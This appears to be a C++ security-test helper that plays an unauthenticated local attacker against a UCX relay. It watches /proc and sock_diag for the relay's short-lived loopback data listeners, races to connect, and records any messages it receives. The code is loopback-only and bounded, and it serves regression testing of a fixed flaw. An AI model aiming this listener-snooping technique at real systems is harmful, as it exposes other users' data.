// A peer without the key against a relay's data listener (issue 41, items 4
// and 5), for test_relay_data_attack.cpp. It finds the listener as any local
// user can: /proc/net/tcp lists every listening socket. Loopback only, and
// bounded in connections, children and time.
//
//   relay_data_attacker watch --pid PID --ctrl PORT [--ports P,Q] --conns N --seconds S --report FILE
//                             [--hold-ms M] [--max-hits H] [--as-nobody 1]
//     Watches the relay PID's sockets. A data listener is a port in --ports,
//     or a socket of PID that starts listening on 127.0.0.1 after the
//     watch began (the relay before issue 41 opened one per downstream,
//     for a few milliseconds). On every new data listener, and every time
//     a connection to the control port PORT is accepted (a downstream
//     attaches), it "hits" each data listener that is listening then: a
//     child process opens N UCX connections to it and receives every
//     tagged message that comes on them for M ms (default 1500), then
//     ends. With --as-nobody 1 the child runs as uid 65534 (setpriv).
//     At most H hits (default 400). Reports "watching", "listener PORT",
//     "hit PORT"; each child "connected N" (its connections up for 200 ms
//     without an error) and "recv BYTES" per message it received.
//   relay_data_attacker recv --to 127.0.0.1:PORT --conns N --hold-ms M --report FILE
//     One hit (what the children of watch run).
#include <arpa/inet.h>
#include <dirent.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <ucp/api/ucp.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <set>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

using namespace std::chrono_literals;

namespace {

std::string g_report;
void report(const std::string& line) {
  std::ofstream f(g_report, std::ios::app);
  f << line << "\n";
}

[[noreturn]] void die(const std::string& what) {
  std::fprintf(stderr, "relay_data_attacker: %s\n", what.c_str());
  ::_exit(2);
}

// ---- one hit: N UCX connections, every tagged message received

std::atomic<int> g_failed{0};
void ep_err(void*, ucp_ep_h, ucs_status_t) { ++g_failed; }

struct Recv {
  std::vector<char> buf = std::vector<char>(8u << 20);
  void* req = nullptr;
  std::atomic<bool> done{false};
  std::size_t length = 0;
};
void recv_cb(void*, ucs_status_t st, const ucp_tag_recv_info_t* info, void* user) {
  auto* r = static_cast<Recv*>(user);
  r->length = st == UCS_OK && info ? info->length : 0;
  r->done = true;
}
void post(ucp_worker_h w, Recv* r) {
  r->done = false;
  ucp_request_param_t p{};
  p.op_attr_mask = UCP_OP_ATTR_FIELD_CALLBACK | UCP_OP_ATTR_FIELD_USER_DATA | UCP_OP_ATTR_FLAG_NO_IMM_CMPL;
  p.cb.recv = recv_cb;
  p.user_data = r;
  void* s = ucp_tag_recv_nbx(w, r->buf.data(), r->buf.size(), 0, 0, &p);  // any tag
  if (UCS_PTR_IS_ERR(s)) die("ucp_tag_recv_nbx failed");
  r->req = s;
}

int hit(int port, int conns, int hold_ms) {
  ucp_config_t* cfg = nullptr;
  if (ucp_config_read(nullptr, nullptr, &cfg) != UCS_OK) die("ucp_config_read");
  ucp_params_t pp{};
  pp.field_mask = UCP_PARAM_FIELD_FEATURES;
  pp.features = UCP_FEATURE_TAG | UCP_FEATURE_STREAM;
  ucp_context_h ctx = nullptr;
  if (ucp_init(&pp, cfg, &ctx) != UCS_OK) die("ucp_init");
  ucp_config_release(cfg);
  ucp_worker_params_t wp{};
  wp.field_mask = UCP_WORKER_PARAM_FIELD_THREAD_MODE;
  wp.thread_mode = UCS_THREAD_MODE_SINGLE;
  ucp_worker_h w = nullptr;
  if (ucp_worker_create(ctx, &wp, &w) != UCS_OK) die("ucp_worker_create");
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(static_cast<std::uint16_t>(port));
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  for (int i = 0; i < conns; ++i) {
    ucp_ep_params_t p{};
    p.field_mask = UCP_EP_PARAM_FIELD_FLAGS | UCP_EP_PARAM_FIELD_SOCK_ADDR | UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE |
                   UCP_EP_PARAM_FIELD_ERR_HANDLER;
    p.flags = UCP_EP_PARAMS_FLAGS_CLIENT_SERVER;
    p.sockaddr.addr = reinterpret_cast<const sockaddr*>(&to);
    p.sockaddr.addrlen = sizeof to;
    p.err_mode = UCP_ERR_HANDLING_MODE_PEER;
    p.err_handler.cb = ep_err;
    ucp_ep_h ep = nullptr;
    (void)ucp_ep_create(w, &p, &ep);
  }
  Recv r;
  post(w, &r);
  const auto start = std::chrono::steady_clock::now();
  bool said = false;
  while (std::chrono::steady_clock::now() - start < std::chrono::milliseconds(hold_ms)) {
    if (ucp_worker_progress(w) == 0) std::this_thread::sleep_for(200us);
    if (r.done) {
      report("recv " + std::to_string(r.length));
      ucp_request_free(r.req);
      post(w, &r);
    }
    if (!said && std::chrono::steady_clock::now() - start > 200ms) {
      said = true;
      report("connected " + std::to_string(conns - g_failed.load()));
    }
  }
  ::_exit(0);  // no orderly UCX teardown: the relay may be closing these connections right now
}

// ---- watch: the relay's listening sockets, from /proc

struct TcpLine {
  std::uint32_t local_ip = 0;  // network order, as the kernel prints it
  int local_port = 0;
  int state = 0;
  unsigned long inode = 0;
};
std::vector<TcpLine> tcp_lines(int pid) {
  std::vector<TcpLine> out;
  std::ifstream f("/proc/" + std::to_string(pid) + "/net/tcp");
  std::string line;
  std::getline(f, line);  // header
  while (std::getline(f, line)) {
    unsigned ip = 0, port = 0, rip = 0, rport = 0, st = 0;
    unsigned long inode = 0;
    char rest[256];
    // sl local rem st tx:rx tr:when retr uid timeout inode
    if (std::sscanf(line.c_str(), " %*d: %x:%x %x:%x %x %*x:%*x %*x:%*x %*x %*u %*u %lu%255[^\n]", &ip, &port, &rip,
                    &rport, &st, &inode, rest) < 6)
      continue;
    out.push_back(TcpLine{ip, static_cast<int>(port), static_cast<int>(st), inode});
  }
  return out;
}
// The listening TCP sockets of this network namespace (sock_diag: the
// kernel walks only its listening table, far cheaper than /proc/net/tcp,
// so it can be asked every millisecond).
std::vector<TcpLine> listening_sockets() {
  std::vector<TcpLine> out;
  static int fd = ::socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
  if (fd < 0) return out;
  struct {
    nlmsghdr nh;
    inet_diag_req_v2 r;
  } req{};
  req.nh.nlmsg_len = sizeof req;
  req.nh.nlmsg_type = SOCK_DIAG_BY_FAMILY;
  req.nh.nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP;
  req.r.sdiag_family = AF_INET;
  req.r.sdiag_protocol = IPPROTO_TCP;
  req.r.idiag_states = 1u << 10;  // TCP_LISTEN
  if (::send(fd, &req, sizeof req, 0) != static_cast<ssize_t>(sizeof req)) return out;
  alignas(nlmsghdr) char buf[32768];
  for (;;) {
    const ssize_t n = ::recv(fd, buf, sizeof buf, 0);
    if (n <= 0) return out;
    int len = static_cast<int>(n);
    for (auto* h = reinterpret_cast<nlmsghdr*>(buf); NLMSG_OK(h, len); h = NLMSG_NEXT(h, len)) {
      if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) return out;
      const auto* m = static_cast<const inet_diag_msg*>(NLMSG_DATA(h));
      out.push_back(TcpLine{m->id.idiag_src[0], ntohs(m->id.idiag_sport), 0x0A, m->idiag_inode});
    }
  }
}

std::set<unsigned long> socket_inodes(int pid) {
  std::set<unsigned long> out;
  const std::string dir = "/proc/" + std::to_string(pid) + "/fd";
  DIR* d = ::opendir(dir.c_str());
  if (!d) return out;
  while (dirent* e = ::readdir(d)) {
    char target[64];
    const ssize_t n = ::readlink((dir + "/" + e->d_name).c_str(), target, sizeof target - 1);
    if (n <= 0) continue;
    target[n] = 0;
    unsigned long ino = 0;
    if (std::sscanf(target, "socket:[%lu]", &ino) == 1) out.insert(ino);
  }
  ::closedir(d);
  return out;
}

int watch(int pid, int ctrl, std::set<int> ports, int conns, int seconds, int hold_ms, int max_hits, bool nobody,
          const std::string& self) {
  std::set<unsigned long> seen_listen, seen_est;
  int hits = 0, children = 0;
  auto do_hit = [&](int port) {
    if (hits >= max_hits) return;
    ++hits;
    report("hit " + std::to_string(port));
    const pid_t c = ::fork();
    if (c < 0) return;
    if (c == 0) {
      if (!nobody) {
        ::prctl(PR_SET_PDEATHSIG, SIGKILL);
        hit(port, conns, hold_ms);
      }
      const std::string to = "127.0.0.1:" + std::to_string(port);
      const std::string n = std::to_string(conns), h = std::to_string(hold_ms);
      ::execl("/usr/bin/setpriv", "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", self.c_str(), "recv",
              "--to", to.c_str(), "--conns", n.c_str(), "--hold-ms", h.c_str(), "--report", g_report.c_str(),
              static_cast<char*>(nullptr));
      ::_exit(127);
    }
    ++children;
  };
  bool first = true;
  long pass = 0;
  report("watching");
  for (const auto end = std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
       std::chrono::steady_clock::now() < end;) {
    if (::kill(pid, 0) != 0) break;  // the relay is gone
    // Listening sockets every millisecond (a per-downstream listener of
    // the relay before the fix lived a few); accepted control connections
    // (a downstream attaching: it stays connected) every 20.
    std::vector<TcpLine> lines = listening_sockets();
    if (++pass % 20 == 0 || first)
      for (const TcpLine& l : tcp_lines(pid))
        if (l.state == 0x01) lines.push_back(l);
    std::set<int> listening;
    std::set<unsigned long> mine;
    bool attach = false;
    for (const TcpLine& l : lines) {
      if ((ntohl(l.local_ip) >> 24) != 127) continue;
      if (l.state == 0x0A) {
        listening.insert(l.local_port);
        if (seen_listen.insert(l.inode).second && !first && l.local_port != ctrl && !ports.count(l.local_port)) {
          if (mine.empty()) mine = socket_inodes(pid);
          if (mine.count(l.inode)) {
            ports.insert(l.local_port);
            report("listener " + std::to_string(l.local_port));
            do_hit(l.local_port);
          }
        }
      } else if (l.state == 0x01 && l.local_port == ctrl && seen_est.insert(l.inode).second && !first) {
        attach = true;
      }
    }
    if (attach)
      for (int p : ports)
        if (listening.count(p)) do_hit(p);
    first = false;
    while (::waitpid(-1, nullptr, WNOHANG) > 0) --children;
    std::this_thread::sleep_for(1ms);  // a poll of /proc, not a wait for an event
  }
  report("done " + std::to_string(hits));
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) die("usage: relay_data_attacker watch|recv [options]");
  const std::string mode = argv[1];
  std::string to;
  int pid = 0, ctrl = 0, conns = 3, seconds = 60, hold_ms = 1500, max_hits = 400, nobody = 0;
  std::set<int> ports;
  for (int i = 2; i + 1 < argc; i += 2) {
    const std::string k = argv[i], v = argv[i + 1];
    if (k == "--to") to = v;
    else if (k == "--pid") pid = std::stoi(v);
    else if (k == "--ctrl") ctrl = std::stoi(v);
    else if (k == "--ports") {
      std::istringstream in(v);
      for (std::string p; std::getline(in, p, ',');)
        if (!p.empty()) ports.insert(std::stoi(p));
    } else if (k == "--conns") conns = std::stoi(v);
    else if (k == "--seconds") seconds = std::stoi(v);
    else if (k == "--hold-ms") hold_ms = std::stoi(v);
    else if (k == "--max-hits") max_hits = std::stoi(v);
    else if (k == "--as-nobody") nobody = std::stoi(v);
    else if (k == "--report") g_report = v;
    else die("unknown option " + k);
  }
  if (g_report.empty()) die("--report FILE is required");
  if (conns < 1 || conns > 16 || seconds < 0 || seconds > 600 || hold_ms < 0 || hold_ms > 60000 || max_hits > 1000)
    die("--conns 1..16, --seconds 0..600, --hold-ms 0..60000, --max-hits <= 1000");
  if (mode == "recv") {
    const auto colon = to.rfind(':');
    if (colon == std::string::npos || to.substr(0, colon) != "127.0.0.1") die("--to 127.0.0.1:PORT");
    return hit(std::stoi(to.substr(colon + 1)), conns, hold_ms);
  }
  if (mode == "watch") {
    if (pid <= 0 || ctrl <= 0) die("--pid and --ctrl are required");
    char self[4096];
    const ssize_t n = ::readlink("/proc/self/exe", self, sizeof self - 1);
    if (n <= 0) die("readlink /proc/self/exe");
    self[n] = 0;
    return watch(pid, ctrl, ports, conns, seconds, hold_ms, max_hits, nobody != 0, self);
  }
  die("unknown mode " + mode);
}
